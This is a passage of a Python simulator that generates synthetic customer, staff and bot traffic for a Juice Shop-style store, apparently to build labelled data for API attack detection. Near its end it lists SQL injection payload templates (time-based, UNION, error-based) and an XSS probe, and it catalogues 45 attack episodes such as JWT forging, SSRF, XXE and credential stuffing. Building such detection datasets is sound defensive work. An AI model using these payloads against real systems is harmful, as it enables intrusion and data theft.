        if rs.st not in (200, 304):
            return
        a = rs.full['data'][:1]
        if not a or r.random() < .04:
            yield r.uniform(20, 60)
            rs = post(cl, '/api/Addresss/', dict(country=r.choice(['Germany', 'Portugal', 'Austria']), fullName=u['email'].split('@')[0].replace('.', ' ').title(), mobileNum=r.randint(10**9, 10**10), zipCode=f'{r.randint(10000, 99999)}', streetAddress=f'{r.randint(1, 99)} {r.choice(WORDS).title()} Street', city=r.choice(WORDS).title(), state=''))
            if rs.st != 201:
                return
            a = [rs.full['data']]
        get(cl, f'/api/Addresss/{a[0]["id"]}')
        yield r.uniform(2, 8)
        get(cl, '/api/Deliverys')
        d = r.randint(1, 3)
        yield r.uniform(2, 10)
        get(cl, f'/api/Deliverys/{d}')
        rs = get(cl, '/api/Cards')
        get(cl, '/rest/wallet/balance')
        if rs.st not in (200, 304):
            return
        c = rs.full['data'][:1]
        if not c:
            yield r.uniform(20, 60)
            rs = post(cl, '/api/Cards/', dict(fullName=u['email'].split('@')[0].replace('.', ' ').title(), cardNum=r.randint(4 * 10**15, 5 * 10**15), expMonth=str(r.randint(1, 12)), expYear=str(r.randint(2080, 2099))))
            if rs.st != 201:
                return
            c = [rs.full['data']]
        coup = None
        if r.random() < .12:
            yield r.uniform(4, 20)
            coup = z85(b'JUN26-10') if r.random() < .7 else r.choice([z85(b'MAY26-10'), 'SUMMER10', 'JUICE', z85(b'JUN26-10').lower()])
            if S.call(cl, 'PUT', f'/rest/basket/{cl.bid}/coupon/{quote(coup, safe="")}', js={}).st != 200:
                coup = None
        yield r.uniform(3, 20)
        get(cl, f'/api/Cards/{c[0]["id"]}')
        get(cl, f'/rest/basket/{cl.bid}')
        yield r.uniform(3, 20)
        rs = post(cl, f'/rest/basket/{cl.bid}/checkout', dict(couponData=base64.b64encode(f'{coup}-{int(S.now * 1000)}'.encode()).decode() if coup else 'bnVsbA==', orderDetails=dict(paymentId=str(c[0]['id']), addressId=str(a[0]['id']), deliveryMethodId=d)))
        if rs.st != 200:
            return
        o = rs.full['orderConfirmation']
        yield r.uniform(.2, 2)
        get(cl, f'/rest/track-order/{o}')
        get(cl, f'/api/Addresss/{a[0]["id"]}')
        if r.random() < .3:
            yield r.uniform(3, 20)
            get(cl, f'/ftp/order_{o}.pdf')

    def visit(cl, u, will=.36):
        keep = cl.dc
        rs = splash(cl)
        k = 0
        while rs.st == 500 and k < 4:
            yield 2 ** k + r.random()
            k, cl.dc = k + 1, 'D-outage'
            rs = get(cl, '/rest/products/search?q=')
        cl.dc = keep
        if rs.st == 500:
            return
        look = lambda: [x for x in r.sample(range(1, len(app.products) + 1), r.randint(0, 3))]
        for p in look():
            yield r.lognormvariate(2.4, .8)
            get(cl, f'/rest/products/{p}/reviews')
            if r.random() < .4:
                get(cl, '/assets/public/images/products/' + app.products[p]['image'], h={'Accept': 'image/avif,image/webp,*/*;q=0.8'}) if cl.web else get(cl, f'/api/Products/{p}')
        if r.random() < .4:
            yield r.uniform(3, 20)
            x = r.random()
            if x < .08:
                w = r.choice(["kid's juice", "granny's apple", "grandma's", "children's", "farmer's choice", "l'orange", "d'anjou"])
                get(cl, '/rest/products/search?q=' + quote(w), dc=cl.dc or 'D-apos')
            else:
                get(cl, '/rest/products/search?q=' + quote(r.choice(FRUIT + [f.lower() for f in FRUIT] + ['smoothie', '500ml', 'juice 1000ml', 'bike', 'sugar free', 'aple', '100%', 'a & b'])))
        if r.random() < .25 and not cl.tok and not u.get('new'):
            return                              # only looked
        yield r.lognormvariate(2, .6)
        yield from signed(cl, u)
        if not cl.tok:
            return
        get(cl, f'/rest/basket/{cl.bid}')
        x = r.random()
        if x < will:
            yield from buy(cl, u)
        elif x < will + .14:
            yield r.uniform(3, 15)
            rs = get(cl, '/rest/order-history')
            if rs.st in (200, 304) and rs.full['data']:
                for o in r.sample(rs.full['data'], min(len(rs.full['data']), r.randint(1, 2))):
                    yield r.uniform(3, 15)
                    get(cl, f'/rest/track-order/{o["orderId"]}')
                    if r.random() < .3:
                        get(cl, f'/ftp/order_{o["orderId"]}.pdf')
        elif x < will + .21:
            p = r.randint(1, len(app.products))
            get(cl, f'/rest/products/{p}/reviews')
            yield r.uniform(20, 90)
            S.call(cl, 'PUT', f'/rest/products/{p}/reviews', js=dict(message=r.choice(['Very good', "Doesn't taste like fruit", 'My kids drink it all day; 5 stars', 'Expensive... but OK', 'Will buy again & again', 'Select the big bottle, drop the small one']), author=u['email']))
            rs = get(cl, f'/rest/products/{p}/reviews')
            own = [x for x in rs.full['data'] if x['author'] == u['email']] if isinstance(rs.full, dict) and 'data' in rs.full else []
            oth = [x for x in rs.full['data'] if x['author'] != u['email'] and u['email'] not in x['likedBy']] if own else []
            if own and r.random() < .25:
                yield r.uniform(9, 40)
                S.call(cl, 'PATCH', '/rest/products/reviews', js=dict(id=own[-1]['_id'], message='Edit: ' + own[-1]['message']))
            if oth and r.random() < .6:
                yield r.uniform(3, 9)
                post(cl, '/rest/products/reviews', dict(id=oth[0]['_id']))
        elif x < will + .27:
            rs = get(cl, '/rest/captcha/')
            if rs.st == 200:
                yield r.uniform(15, 80)
                a = rs.full['answer']
                for wrong in ([True] if r.random() < .2 else []) + [False]:
                    post(cl, '/api/Feedbacks/', dict(UserId=u['id'], captchaId=rs.full['captchaId'], captcha=str(int(a) + 1) if wrong else a, comment=f'{r.choice(["Nice", "Too slow", "I love juice", "No pear anymore?", "It was 5<6 days late"])} (***{u["email"][3:]})', rating=r.randint(1, 5)))
                    yield r.uniform(5, 20)
        elif x < will + .345:
            get(cl, '/rest/memories')
            if r.random() < .3:
                yield r.uniform(20, 60)
                body, bd = mpart('image', 'me.jpg', 'image/jpeg', r.randbytes(r.randint(1500, 4000)), [('caption', '#juice')])
                S.call(cl, 'POST', '/rest/memories', body=body, ct=bd)
                get(cl, '/rest/memories')
        elif x < will + .385 and cl.web:
            get(cl, '/profile', h={'Accept': 'text/html,application/xhtml+xml,*/*;q=0.8', 'Authorization': None})
            yield r.uniform(8, 50)
            if r.random() < .5:
                S.call(cl, 'POST', '/profile', form=dict(username=u['email'].split('.')[0] + r.choice(['', '99', " O'Neil", '_x'])), h={'Authorization': None})
            else:
                S.call(cl, 'POST', '/profile/image/url', form=dict(imageUrl=f'https://{r.choice(["img.post.example", "gravatar.web.example", "cdn.photos.example"])}/{r.getrandbits(40):x}.{r.choice(["jpg", "png"])}'), h={'Authorization': None})
            get(cl, '/profile', h={'Accept': 'text/html,application/xhtml+xml,*/*;q=0.8', 'Authorization': None})
        elif x < will + .395:
            get(cl, '/rest/2fa/status')
        elif x < will + .42:
            yield r.uniform(20, 60)
            body, bd = mpart('file', r.choice(['invoice.pdf', 'complaint.pdf', 'broken bottle.pdf', 'photos.zip']), 'application/pdf', b'%PDF-1.4\n' + r.randbytes(r.randint(800, 5000)))
            S.call(cl, 'POST', '/file-upload', body=body, ct=bd)
            post(cl, '/api/Complaints/', dict(UserId=u['id'], message=r.choice(['Bottle was broken', "Where's my order?", 'wrong item; please call']), file='invoice.pdf'))
        elif x < will + .435:
            a = get(cl, '/api/Addresss')
            if a.st in (200, 304) and a.full['data']:
                post(cl, '/api/Recycles/', dict(UserId=u['id'], AddressId=a.full['data'][0]['id'], quantity=r.randint(10, 300)))
        elif x < will + .455:
            get(cl, '/rest/deluxe-membership')
            c = get(cl, '/api/Cards')
            if c.st in (200, 304) and c.full['data']:
                yield r.uniform(20, 60)
                rs = post(cl, '/rest/deluxe-membership', dict(paymentMode='card', paymentId=c.full['data'][0]['id']))
                if rs.st == 200:
                    carry(cl, rs.full['data']['token'])
        elif x < will + .475:
            c = get(cl, '/api/Cards')
            get(cl, '/rest/wallet/balance')
            if c.st in (200, 304) and c.full['data']:
                yield r.uniform(10, 50)
                S.call(cl, 'PUT', '/rest/wallet/balance', js=dict(balance=r.choice([10, 20, 50, 100]), paymentId=c.full['data'][0]['id']))
                get(cl, '/rest/wallet/balance')
        elif x < will + .49:
            n = f'{r.choice(WORDS)}{r.randint(10, 9999)}'
            get(cl, f'/rest/user/change-password?current={u["pw"]}&new={n}&repeat={n}')
        elif x < will + .53:
            get(cl, '/ftp/legal.md')
            get(cl, '/api/Feedbacks/')
        if S.now > rel and r.random() < .18:
            yield r.uniform(4, 20)
            get(cl, '/rest/chatbot/status', dc=cl.dc or 'D-chatbot')
            for _ in range(r.randint(1, 3)):
                yield r.uniform(6, 25)
                post(cl, '/rest/chatbot/respond', dict(action='query', query=r.choice(['How much is apple juice?', 'where is my order', 'do you have a coupon?', "what's new"])), dc=cl.dc or 'D-chatbot')
        if cl.web and r.random() < .35:           # logs out
            yield r.uniform(3, 30)
            get(cl, '/rest/saveLoginIp')
            carry(cl, None)

    def mpart(field, fn, ct, data, extra=()):
        b = '----WebKitFormBoundary' + b64(r.randbytes(12)).replace('-', 'a').replace('_', 'b')
        o = b''.join(f'--{b}\r\nContent-Disposition: form-data; name="{k}"\r\n\r\n{v}\r\n'.encode() for k, v in extra)
        return o + f'--{b}\r\nContent-Disposition: form-data; name="{field}"; filename="{fn}"\r\nContent-Type: {ct}\r\n\r\n'.encode() + data + f'\r\n--{b}--\r\n'.encode(), f'multipart/form-data; boundary={b}'

    # --- customers
    nat = [f'100.71.{i}.9' for i in range(4)]
    for i, u in enumerate(cust):
        mob = i % 4 == 1
        src = nat[i % 4 if i % 8 else 2] if mob and i < 90 else '203.0.113.40' if 50 <= i < 64 else f'2001:db8:4:{i:x}::{i * 7:x}' if i % 17 == 3 else f'198.18.{i % 90 + 1}.{i * 3 % 250 + 1}'
        cl = u['cl'] = browser(src, MOBILE[i % 8 // 4] if mob else BROWSERS[i % len(BROWSERS)], u, dc='D-nat' if src in nat else 'D-office' if src == '203.0.113.40' else None)
        u['home'], u['forget'] = src, i in (70, 96, 120)
        for t in S.human_starts(.7 if i in (70, 80, 82, 96, 120) else r.choice([.08, .14, .2, .32, .48]), peaks=((8, 1.2), (12.5, 1.5), (20, 2), (21.5, 1)), weekend=1.3):
            def one(cl=cl, u=u, i=i, mob=mob):
                if mob and S.now > rel + (i * 977 % 5000) * 25:
                    cl.ua, cl.dc = MOBILE2[i % 8 // 4], cl.dc or 'D-release'
                if i in (80, 82):
                    x = 5 < (S.now - st) / DAY < 8.5
                    cl.ip, cl.dc = (f'198.18.{130 + i}.77', 'D-roam') if x else (u['home'], None)
                if u.get('busy', 0) > S.now:
                    return
                u['busy'] = S.now + 900
                yield from visit(cl, u)
            S.spawn(t, one())

    def signup(k):
        e = f'{r.choice(FIRST)}.{r.choice(LAST)}.{k}@{r.choice(["post.example", "mail.example"])}'
        cl = browser(f'198.18.{100 + k % 60}.{k * 5 % 240 + 3}', r.choice(BROWSERS), dict(email=e), dc='D-new')
        u = yield from enrol(cl, e)
        if u:
            u['cl'] = cl
            for _ in range(r.randint(1, 3)):
                yield from visit(cl, u, .6)
                yield r.uniform(.3, 3) * DAY

    def enrol(cl, e, **extra):
        splash(cl)
        yield r.uniform(8, 40)
        get(cl, '/api/SecurityQuestions/')
        yield r.uniform(25, 90)
        pw, q, a = f'{r.choice(WORDS).title()}{r.randint(100, 9999)}!', r.randint(1, 7), r.choice(PETS)
        rs = post(cl, '/api/Users/', dict(email=e, password=pw, passwordRepeat=pw, securityQuestion=dict(id=q, question=QUESTIONS[q - 1], createdAt=iso(st - 200 * DAY), updatedAt=iso(st - 200 * DAY)), securityAnswer=a, **extra))
        if rs.st != 201:
            return
        post(cl, '/api/SecurityAnswers/', dict(UserId=rs.full['data']['id'], answer=a, SecurityQuestionId=q))
        u = app.by_mail[e]
        u['new'] = True
        yield r.uniform(5, 15)
        login(cl, u)
        return u
    for k in range(24):
        S.spawn(S.local(k * days // 24, r.gauss(17, 4) % 24), signup(k))

    # --- days that differ
    def with_dc(cl, d, g):
        keep, cl.dc = cl.dc, d
        yield from g
        cl.dc = keep

    for u in r.sample(cust, 75):
        def sale(u=u):
            splash(u['cl'])
            yield from signed(u['cl'], u)
            if u['cl'].tok:
                get(u['cl'], '/rest/products/search?q=bike')
                yield r.uniform(3, 20)
                yield from buy(u['cl'], u, pids=[12, 12, 12] + list(range(1, 40)))
        S.spawn(S.local(9, 18) + r.expovariate(1 / 2200), with_dc(u['cl'], 'D-sale', sale()))
    for u in r.sample(cust, 20):                # Friday evening: they come while the database is locked, and try again.
        S.spawn(out0 + r.uniform(-2, 34) * MIN, with_dc(u['cl'], 'D-outage', visit(u['cl'], u)))
    for u in r.sample(cust, 38):
        def pwday(u=u):
            cl = u['cl']
            splash(cl)
            yield from signed(cl, u)
            if cl.tok:
                yield r.uniform(10, 60)
                n = f'{r.choice(WORDS)}{r.randint(10, 9999)}'
                for c in ([u['pw'] + 'x'] if r.random() < .25 else []) + [u['pw']]:
                    get(cl, f'/rest/user/change-password?current={quote(c)}&new={n}&repeat={n}')
                    yield r.uniform(5, 20)
        S.spawn(S.local(10, r.gauss(14, 3.5) % 24), with_dc(u['cl'], 'D-pwday', pwday()))
    for u in r.sample(cust, 34):
        def link(u=u):
            get(u['cl'], '/rest/produts/42/reviews', h={'Accept': 'text/html,application/xhtml+xml,*/*;q=0.8'}, dc='D-link')
            yield r.uniform(2, 8)
            if r.random() < .4:
                get(u['cl'], '/rest/produts/42/reviews', h={'Accept': 'text/html,application/xhtml+xml,*/*;q=0.8'}, dc='D-link')
            elif r.random() < .5:
                yield from visit(u['cl'], u)
        S.spawn(S.local(2, 9) + r.expovariate(1 / 7000), link())
    for u in r.sample(cust, 24):
        def misprint(u=u):
            cl = u['cl']
            splash(cl)
            yield from signed(cl, u)
            if cl.tok:
                get(cl, f'/rest/basket/{cl.bid}')
                for c in ('JUICY-JUNE', 'JUICYJUNE', 'juicy-june')[:r.randint(1, 3)]:
                    yield r.uniform(4, 20)
                    S.call(cl, 'PUT', f'/rest/basket/{cl.bid}/coupon/{c}', js={})
                if r.random() < .4:
                    yield from buy(cl, u)
        S.spawn(S.local(11, 10) + r.expovariate(1 / 9000), with_dc(u['cl'], 'D-misprint', misprint()))

    def group(u):
        cl = u['cl']
        splash(cl)
        yield from signed(cl, u)
        for _ in range(14):
            yield from buy(cl, u, n=r.randint(2, 4))
            yield r.uniform(60, 300)
    S.spawn(S.local(8, 19), with_dc(cust[140]['cl'], 'D-group', group(cust[140])))

    def family(u):
        two = browser('198.18.177.41', BROWSERS[4], u, dc='D-family')
        for d in range(days):
            yield max(0, S.local(d, r.gauss(20.5, .4)) - S.now)
            if r.random() < .6:
                S.spawn(S.now + r.uniform(0, 120), with_dc(u['cl'], 'D-family', visit(u['cl'], u)))
                yield from visit(two, u)
    S.spawn(st + 60, family(cust[83]))

    def tab(u, h):
        cl = browser(u['home'], u['cl'].ua, u, dc='D-tab')
        splash(cl)
        login(cl, u)
        for k in range(h):
            yield r.uniform(1700, 1900)
            get(cl, f'/rest/basket/{cl.bid}')
            get(cl, '/rest/user/whoami')
    S.spawn(S.local(3, 16), tab(cust[66], 34))
    S.spawn(S.local(7, 10), tab(cust[102], 50))

    # --- the shop's own people
    def desk(u, until):
        cl = u['cl']
        splash(cl)
        yield from signed(cl, u, 5.5 * HOUR)
        while S.now < until:
            if S.now - cl.since > 5.5 * HOUR:
                yield from signed(cl, u, 5.5 * HOUR)
            x = r.random()
            if u['role'] == 'accounting':
                rs = get(cl, '/rest/order-history/orders')
                yield r.uniform(10, 60)
                if x < .6 and rs.st in (200, 304):
                    for o in [o for o in rs.full['data'] if not o['delivered']][:r.randint(1, 5)]:
                        S.call(cl, 'PUT', f'/rest/order-history/{o["_id"]}/delivery-status', js=dict(deliveryStatus=False))
                        yield r.uniform(3, 20)
                elif x < .8:
                    get(cl, '/api/Quantitys/')
                    p = r.randint(1, len(app.products))
                    yield r.uniform(5, 20)
                    S.call(cl, 'PUT', f'/api/Quantitys/{p}', js=dict(quantity=app.qty[p]['quantity'] + r.randint(10, 90)))
            elif u['email'].startswith('prod'):
                p = r.randint(1, len(app.products))
                get(cl, f'/api/Products/{p}')
                if x < .3:
                    yield r.uniform(30, 200)
                    S.call(cl, 'PUT', f'/api/Products/{p}', js=dict(description=app.products[p]['description'] + ' ' + r.choice(WORDS)))
            else:
                if x < .3:
                    get(cl, '/rest/user/authentication-details/')
                    get(cl, '/api/Feedbacks/')
                for _ in range(r.randint(1, 3)):
                    yield r.uniform(15, 120)
                    get(cl, f'/api/Users/{r.choice(cust)["id"]}')
                if x > .6 and app.orders:
                    get(cl, f'/rest/track-order/{r.choice(list(app.orders))}')
                if x > .93 and app.feedback:
                    S.call(cl, 'DELETE', f'/api/Feedbacks/{r.choice(list(app.feedback))}')
            yield r.expovariate(1 / 3400)
        if r.random() < .6:
            carry(cl, None)
    for i, u in enumerate(staff):
        ns = u['email'].startswith('acc.noor')
        u['cl'] = browser(f'10.90.40.{20 + i}', BROWSERS[i % 3], u, dc='D-newstaff' if ns else 'D-staff')
        for d in range(7 if ns else 0, days):
            if (d % 7 < 5) or (i in (1, 2) and d % 7 == 5):
                h = S.local(d, [8, 13][i % 2]) + r.random() * 1500
                S.spawn(h, desk(u, h + r.uniform(6, 7.5) * HOUR))

    def spam():
        cl = staff[1]['cl']
        yield from signed(cl, staff[1], HOUR)
        get(cl, '/api/Feedbacks/', dc='D-spam')
        for i in list(app.feedback)[-30:]:
            S.call(cl, 'DELETE', f'/api/Feedbacks/{i}', dc='D-spam')
            yield r.uniform(2, 6)
    S.spawn(S.local(12, 15), spam())

    def prices():
        cl = staff[6]['cl']
        yield from signed(cl, staff[6], HOUR)
        for p in r.sample(range(1, len(app.products) + 1), 60):
            S.call(cl, 'PUT', f'/api/Products/{p}', js=dict(price=round(app.products[p]['price'] * 1.04, 2)), dc='D-audit')
            yield r.uniform(8, 30)
    S.spawn(S.local(8, 9.5), prices())

    # --- machines
    def every(cl, url, sec, **k):
        yield r.random() * sec
        while True:
            S.call(cl, 'GET', url, **k)
            yield sec * r.uniform(.995, 1.005)
    S.spawn(st + 1, every(Client('10.90.8.2', 'Blackbox-Exporter/0.25', 'probe', dc='D-probe'), '/rest/admin/application-version', 1800))
    S.spawn(st + 1, every(Client('10.90.8.9', 'Prometheus/2.51.0', 'prometheus', dc='D-metrics', headers={'Accept': 'application/openmetrics-text;version=1.0.0,text/plain;q=0.5'}), '/metrics', 2400))

    def nightly():
        cl = Client('10.90.9.4', 'axios/1.6.8', svc['email'], dc='D-night', headers={'Accept': 'application/json, text/plain, */*'})
        cl2 = Client('10.90.9.7', 'Vector/0.37', 'shipper', dc='D-logs')
        for d in range(days):
            yield max(0, S.local(d, 2.2) + r.random() * 240 - S.now)
            S.call(cl2, 'GET', '/support/logs')
            S.call(cl2, 'GET', f'/support/logs/access.log.{iso(st + max(0, d - 1) * DAY)[:10]}')
            yield 30
            rs = S.call(cl, 'POST', '/rest/user/login', js=dict(email=svc['email'], password=svc['pw']))
            carry(cl, rs.full['authentication']['token'])
            S.call(cl, 'GET', '/api/Quantitys')
            for p in app.products:
                S.call(cl, 'PUT', f'/api/Quantitys/{p}', js=dict(quantity=r.randint(200, 900)))
                yield r.uniform(.1, .5)
    S.spawn(st + 2, nightly())

    def e2e():
        cl0 = None
        for d in range(days):
            yield max(0, S.local(d, 5) + r.random() * 60 - S.now)
            cl = browser('10.90.9.30', 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/124.0.0.0 Safari/537.36', dict(email='e2e'), dc='D-e2e')
            u = yield from enrol(cl, f'e2e+{int(S.now)}@juice.example')
            if u:
                yield from buy(cl, u, n=2)
                S.call(cl, 'GET', f'/rest/basket/{cl.bid}', h={'Authorization': None, 'If-None-Match': None})       # must be refused
    S.spawn(st + 3, e2e())

    def crawler():
        cl = Client('203.0.113.201', 'Mozilla/5.0 (compatible; Searchbot/2.1; +http://search.example/bot.html)', 'crawler', dc='D-crawl', headers={'Accept': 'text/html,*/*;q=0.8'})
        S.call(cl, 'GET', '/robots.txt')
        while True:
            x = r.random()
            S.call(cl, 'GET', '/robots.txt' if x < .02 else '/' if x < .05 else f'/api/Products/{r.randint(1, len(app.products))}' if x < .5 else f'/rest/products/{r.randint(1, len(app.products))}/reviews')
            yield r.uniform(600, 2600)
    S.spawn(st + 4, crawler())

    k1, k2, k3 = (f'jsk_{app.rng.getrandbits(128):032x}' for _ in range(3))
    app.keys.update({k1: 'partner:freshmart', k2: 'partner:greengrocer'})

    def partner(key, who, ip, ua, gap, first):
        cl = Client(ip, ua, who, headers={'X-Api-Key': key, 'Accept': 'application/json'})
        yield first
        while True:
            h = (S.now / HOUR + 2) % 24
            if 5 < h < 19:
                rs = S.call(cl, 'POST', '/b2b/v2/orders', js=dict(cid=who[8:12].upper() + '0815', orderLinesData=json.dumps([dict(productId=r.randint(1, 96), quantity=r.choice([100, 200, 500]), customerReference=f'PO{r.randint(10**6, 10**7)}') for _ in range(r.randint(1, 4))])))
                yield r.uniform(2, 30)
                if rs.st == 200:
                    S.call(cl, 'GET', f'/b2b/v2/orders/{rs.full["orderNo"]}')
                if r.random() < .2:
                    S.call(cl, 'GET', '/b2b/v2/orders')
            if who.endswith('grocer') and S.now > st + 7.4 * DAY:
                app.keys[k3] = who
                cl.h['X-Api-Key'], cl.dc = k3, 'D-b2b'
                if S.now > st + 8 * DAY:
                    cl.ip = '198.51.100.91'
            yield gap * r.uniform(.7, 1.3)
    S.spawn(st + 5, partner(k1, 'partner:freshmart', '198.51.100.20', 'Java/17.0.9', 6000, 800))
    S.spawn(st + 5, partner(k2, 'partner:greengrocer', '198.51.100.33', 'GuzzleHttp/7', 8000, 3000))

    def edi():
        """a partner that logs in as a user and renews its token when it has expired"""
        cl = Client('198.51.100.58', 'python-requests/2.31.0', b2bu['email'], headers={'Accept': 'application/json'})
        while True:
            rs = S.call(cl, 'POST', '/b2b/v2/orders', js=dict(cid='FRWK0001', orderLinesData='[{"productId": %d,"quantity": %d,"customerReference": ["%s"]}]' % (r.randint(1, 96), r.randint(1, 9) * 100, f'PO{r.randint(1000, 9999)}.{r.randint(1, 9)}')))
            if rs.st == 401:
                rs = S.call(cl, 'POST', '/rest/user/login', js=dict(email=b2bu['email'], password=b2bu['pw']))
                if rs.st == 200:
                    carry(cl, rs.full['authentication']['token'])
                yield 1
                continue
            yield 7200 * r.uniform(.8, 1.2)
    S.spawn(st + 900, edi())
    if attacks:
        attack(S, app, cust, staff, k1, types.SimpleNamespace(**locals()))
    S.run()
    return S


SQLMAP = ("{a}) AND {n}={m} AND ({k}={k}", "{a} AND {n}={n}", "{a}') AND {n}={m} AND ('x'='x", "{a}' AND {n}={n} AND 'q'='q", "{a}%' AND {n}={m} AND 'w%'='w", "(SELECT (CASE WHEN ({n}={n}) THEN 1 ELSE (SELECT {k} UNION SELECT {m}) END))", "{a}' AND EXTRACTVALUE({n},CONCAT(0x5c,0x71,(SELECT (ELT({n}={n},1))),0x71)) AND 'a'='a", "{a}')) AND {n}={n} AND (('x' LIKE 'x", "{a}')) AND {n}={n}-- {w}", "{a}')) AND {n}={m}-- {w}", "{a}')) ORDER BY 1-- {w}", "{a}')) ORDER BY {o}-- {w}", "{a}')) UNION ALL SELECT {nulls}-- {w}", "{a}' AND {n}=(SELECT {n} FROM PG_SLEEP(5)) AND 'x'='x", "{a}';WAITFOR DELAY '0:0:5'--", "{a}' AND SLEEP(5) AND 'y'='y", "{a}')) AND {n}=LIKE(CHAR(65,66,67,68,69,70,71),UPPER(HEX(RANDOMBLOB(500000000/2))))-- {w}", "{a}'\"().,,.)(,.", "{a}'{w}<'\">{w}")


def attack(S, app, cust, staff, key, B):
    r, st, E = S.rng, S.start, S.episode
    get, post, login, carry, enrol, buy, visit, mpart, splash = B.get, B.post, B.login, B.carry, B.enrol, B.buy, B.visit, B.mpart, B.splash
    E('J01', 'bola_enumeration', 'API1:2023', 'actor', 'easy', 'customer walks basket ids upward with the own token and a script, some 160 in seven minutes; the baskets of others are answered, the last ids with null')
    E('J02', 'bola_enumeration_slow', 'API1:2023', 'actor', 'hard', 'baskets of others, one or two an hour in waking hours for six days, with the browser between own visits')
    E('J03', 'bola_probe_refused', 'API1:2023', 'actor', 'medium', 'customer tries card and address ids of others; 400 "Malicious activity detected" each time')
    E('J04', 'bola_write_basket', 'API1:2023', 'actor', 'hard', 'puts goods into baskets of others (second BasketId key in the body), changes and deletes their items')
    E('J05', 'bola_file_enumeration', 'API1:2023', 'actor', 'medium', 'without a log-in: lists /ftp and downloads the order confirmations of everybody')
    E('J06', 'nosql_injection', 'API8:2023', 'actor', 'medium', 'operators in track-order (all orders come back) and in a review PATCH (all reviews overwritten)')
    E('J07', 'sql_injection_login', 'API8:2023', 'actor', 'medium', 'log-in with a comment after a quote succeeds as administrator; then reads users and deletes feedback')
    E('J08', 'sqlmap_scan', 'API8:2023', 'actor', 'easy', 'sqlmap against the q parameter of the search')
    E('J09', 'sql_injection_manual', 'API8:2023', 'actor', 'hard', 'UNION injection in the search by hand in two hours, ends with all password hashes')
    E('J10', 'credential_stuffing_distributed', 'API2:2023', 'endpoint', 'hard', '160 addresses, one to three log-ins each in nine hours; two succeed and their accounts are read')
    E('J11', 'password_spraying', 'API2:2023', 'endpoint', 'hard', 'two common passwords over the known accounts, six addresses, one try in four to thirteen minutes')
    E('J12', 'user_enumeration', 'API2:2023', 'actor', 'medium', 'security-question answers tell whether an e-mail address has an account: 240 tried in 15 minutes')
    E('J13', 'brute_force_security_answer', 'API2:2023', 'actor', 'medium', 'security answer of one account guessed; after 429 the forwarded address is changed with each request; ends with a reset password and a log-in')
    E('J14', 'otp_brute_force', 'API2:2023', 'actor', 'easy', 'right password, then 420 second-factor codes from two addresses')
    E('J15', 'coupon_brute_force', 'API6:2023', 'actor', 'easy', '240 coupon codes tried by one account')
    E('J16', 'coupon_forging', 'API6:2023', 'actor', 'hard', 'customer reads the leaked coupon file, makes the own codes of 80 and 99 percent and buys with them on three days')
    E('J17', 'bot_captcha_replay', 'API6:2023', 'actor', 'medium', 'one captcha answer is sent 60 times in three minutes with zero-star feedback')
    E('J18', 'bola_write_forged_author', 'API1:2023', 'actor', 'hard', 'feedback with the UserId of others and reviews in the name of others and of the administrator')
    E('J19', 'logic_negative_quantity', 'API6:2023', 'actor', 'medium', 'basket items with a negative quantity are checked out against the wallet, which is credited')
    E('J20', 'mass_assignment', 'API3:2023', 'actor', 'hard', 'registration with role admin, which is taken; the new administrator looks at the accounts')
    E('J21', 'bfla_admin_function', 'API5:2023', 'actor', 'medium', 'customer lists all users, changes products and deletes feedback, which the shop allows')
    E('J22', 'bfla_probe_denied', 'API5:2023', 'actor', 'medium', 'customer tries the functions of accounting and administration, refused')
    E('J23', 'jwt_forging', 'API2:2023', 'actor', 'medium', 'fetches the public key, tries changed tokens, alg none and HS256 with the public key until they are taken')
    E('J24', 'stolen_token', 'API2:2023', 'actor', 'hard', 'token of a customer used from another network and browser for four hours beside its owner')
    E('J25', 'account_takeover_password_change', 'API2:2023', 'actor', 'hard', 'with stolen tokens of three customers the password is changed without the current one, then log-in and use')
    E('J26', 'operational_file_download', 'API8:2023', 'actor', 'medium', 'traversal and poison null byte in /ftp bring backup files; key folder is read')
    E('J27', 'xxe_injection', 'API8:2023', 'actor', 'medium', 'XML uploads with external entities (file contents come back), entity expansion, archives with climbing names')
    E('J28', 'ssrf', 'API7:2023', 'actor', 'medium', 'profile picture address points to loopback, metadata and inside addresses')
    E('J29', 'code_injection', 'API8:2023', 'actor', 'medium', 'template code in the profile name, program code in orderLinesData of a B2B order')
    E('J30', 'application_dos', 'API4:2023', 'actor+endpoint', 'medium', 'sleep(2000) in the product id of the reviews holds the database two seconds, 44 times from two addresses')
    E('J31', 'internal_endpoint_external', 'API9:2023', 'actor+endpoint', 'medium', 'metrics and access logs, read only from inside until then, are read from outside')
    E('J32', 'response_schema_growth_pii', 'API3:2023', 'endpoint', 'medium', 'after a change the photo wall carries e-mail, address of last log-in and password hash of each author (no attacker; ordinary calls are labelled)')
    E('J33', 'shadow_endpoint', 'API9:2023', 'endpoint', 'medium', 'a debug dump of sessions appears and is called from outside')
    E('J34', 'content_discovery', 'API9:2023', 'actor', 'easy', 'ffuf looks for paths; unknown ones answer the page with 200, those below /api and /rest 500')
    E('J35', 'content_discovery_slow', 'API9:2023', 'actor', 'hard', 'unknown paths one in some minutes for two days from two addresses, browser agent; nearly all answer the page with 200')
    E('J36', 'flow_skip_payment', 'API6:2023', 'actor', 'hard', 'five accounts made for it become deluxe members without payment')
    E('J37', 'scalping_bot', 'API6:2023', 'actor', 'medium', 'in the sale one account orders the bike every six seconds')
    E('J38', 'sequential_scrape_public', 'API6:2023', 'endpoint', 'medium', 'all products and reviews counted upward by 14 addresses in a day')
    E('J39', 'leaked_api_key', 'API2:2023', 'actor', 'medium', 'key of a partner used from a new network with curl: its orders read, four placed')
    E('J40', 'exfil_staff_slow', 'API6:2023', 'actor', 'hard', 'a care agent reads four times as many customers a day as before, in order of id, for five days')
    E('J41', 'api_fuzzing', 'API8:2023', 'actor', 'easy', 'schema fuzzing of many operations with broken values')
    E('J42', 'xss_injection', 'API8:2023', 'actor', 'medium', 'script strings in search, registration, review, feedback and the forwarded address header')
    E('J43', 'bot_chatbot_coupon', 'API6:2023', 'actor', 'medium', 'script nags the chat bot for coupons 150 times')
    E('J44', 'logic_repeated_like', 'API6:2023', 'actor', 'hard', 'three likes of the same review at the same moment from one account, four reviews')
    E('J45', 'bola_enumeration_cohort', 'API1:2023', 'actor+endpoint', 'hard', 'twelve fresh accounts from twelve addresses each read a dozen baskets of others in one night')

    def evil(u, ep, ip=None, ua=None, log=True):
        cl = B.browser(ip or u['home'], ua or u['cl'].ua, u, ep=ep)
        if cl.ua.startswith(('python', 'curl', 'axios')):
            cl.web, cl.h = False, {'Accept': '*/*'}
        if log:
